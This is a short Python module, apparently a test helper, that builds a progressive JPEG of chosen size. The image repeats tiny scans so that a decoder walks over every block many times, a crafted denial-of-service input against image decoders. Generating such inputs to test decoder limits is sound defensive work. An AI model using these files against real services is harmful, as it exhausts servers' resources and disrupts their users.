"""Images that cost their readers more than they should."""

from __future__ import annotations

import struct


def jpeg_of_scans(side: int, scans: int) -> bytes:
    """A progressive JPEG that goes over all its blocks again and again, for 20 bytes each time."""

    def segment(marker: int, content: bytes) -> bytes:
        return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content

    def packed(bits: str) -> bytes:
        bits += "1" * (-len(bits) % 8)
        return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\0")

    def codes(table: int, symbol: int) -> bytes:  # one symbol, whose code is 0
        return segment(0xC4, bytes([table, 1, *bytes(15), symbol]))

    blocks = (-(side // -8)) ** 2
    run = "0" + "1" * 14  # the next 32,767 blocks are empty
    scan = segment(0xDA, b"\1\1\0\1\x3f\0") + packed(run * (blocks // 32767 + 1))
    return (
        b"\xff\xd8"
        + segment(0xDB, b"\0" + b"\1" * 64)
        + segment(0xC2, struct.pack(">BHHB", 8, side, side, 1) + b"\1\x11\0")
        + codes(0x00, 0)
        + codes(0x10, 0xE0)
        + segment(0xDA, b"\1\1\0\0\0\0")
        + bytes(blocks // 8 + 1)
        + scan * scans
        + b"\xff\xd9"
    )
